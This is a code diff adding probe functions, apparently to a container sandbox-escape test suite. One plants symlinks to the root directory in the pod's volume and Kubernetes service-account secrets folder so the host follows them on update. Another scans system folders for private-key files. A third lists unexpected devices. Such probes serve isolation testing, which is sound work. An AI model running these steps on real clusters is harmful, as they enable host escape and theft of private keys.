@@ -114,6 +114,33 @@ def files_of_other_pods():
 
 
 @attack
+def volumes_that_the_host_writes():
+    """A link there would be followed by whoever brings the volume up to date: as the user, on the host."""
+    written = []
+    for folder in ("/own", "/var/run/secrets/kubernetes.io/serviceaccount"):
+        try:
+            os.symlink("/", f"{folder}/..data_hostile")
+            written.append(folder)
+        except OSError:
+            continue
+    return written or "no: read-only"
+
+
+@attack
+def private_keys():
+    found = []
+    for top in ("/run", "/var", "/etc", "/tmp", "/dev/shm", "/opt"):
+        for folder, _, files in os.walk(top):
+            for name in files:
+                try:
+                    if b"PRIVATE KEY" in Path(folder, name).read_bytes()[:4096]:
+                        found.append(os.path.join(folder, name))
+                except OSError:
+                    continue
+    return found or "no: none"
+
+
+@attack
 def devices():
     usual = {"null", "zero", "full", "random", "urandom", "tty", "pts", "ptmx", "shm", "fd", "stdin", "stdout"}
     return sorted(set(os.listdir("/dev")) - usual - {"stderr", "termination-log"}) or "no: the usual ones"
